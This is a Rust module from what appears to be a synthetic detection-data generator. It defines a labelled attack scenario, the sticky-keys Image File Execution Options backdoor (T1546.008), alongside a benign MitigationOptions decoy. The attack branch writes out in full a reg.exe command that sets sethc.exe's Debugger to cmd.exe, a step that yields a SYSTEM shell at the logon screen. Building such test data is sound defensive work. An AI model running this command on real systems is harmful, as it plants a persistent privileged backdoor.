//! Planted: the sticky-keys back door. reg.exe sets the Image File Execution Options
//! `Debugger` of sethc.exe to cmd.exe, so five presses of Shift at the logon screen open a
//! SYSTEM shell. The decoy is an installer setting `MitigationOptions` under another
//! program's IFEO key, which is hardening, not a debugger.

use serde_json::{Map, Value, json};

use super::{Env, Kind, Scenario};
use crate::output::format_datetime;
use crate::synth::device::{Ctx, SECOND, Spawn, tick};
use crate::synth::rng::Rng;
use crate::synth::world as w;

/// The attack or the decoy.
pub struct Ifeo {
    kind: Kind,
}

/// See the module documentation.
pub static STICKY_KEYS: Ifeo = Ifeo { kind: Kind::Attack };
/// See the module documentation.
pub static MITIGATION: Ifeo = Ifeo { kind: Kind::Decoy };

const IFEO: &str = "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options";

impl Scenario for Ifeo {
    fn name(&self) -> &'static str {
        if self.kind == Kind::Attack { "ifeo_debugger" } else { "decoy_ifeo_mitigation" }
    }

    fn kind(&self) -> Kind {
        self.kind
    }

    fn technique(&self) -> &'static str {
        "T1546.008"
    }

    fn run(&self, ctx: &mut Ctx<'_>, env: &Env<'_>, at: i64, _rng: &mut Rng) -> Map<String, Value> {
        let t = at + SECOND;
        let (key, value) = match self.kind {
            Kind::Attack => {
                let line = format!("reg  add \"{IFEO}\\sethc.exe\" /v Debugger /t REG_SZ /d \"C:\\Windows\\System32\\cmd.exe\" /f").replace("HKEY_LOCAL_MACHINE", "HKLM");
                let reg = ctx.spawn(at, Spawn::new(&w::REG, line).parent(&env.session.explorer).token("High", "TokenElevationTypeFull").lifetime(SECOND));
                let key = format!("{IFEO}\\sethc.exe");
                ctx.registry(&reg, t, "RegistryValueSet", &key, ("Debugger", "String", "C:\\Windows\\System32\\cmd.exe"));
                (key, "Debugger")
            }
            Kind::Decoy => {
                let key = format!("{IFEO}\\AssetScan.exe");
                ctx.registry(&env.svc.ccmexec, t, "RegistryValueSet", &key, ("MitigationOptions", "Binary", "00 01 00 00 00 00 00 00"));
                (key, "MitigationOptions")
            }
        };
        let mut m = Map::new();
        m.insert("Timestamp".into(), json!(format_datetime(tick(t))));
        m.insert("RegistryKey".into(), json!(key));
        m.insert("RegistryValueName".into(), json!(value));
        m
    }
}
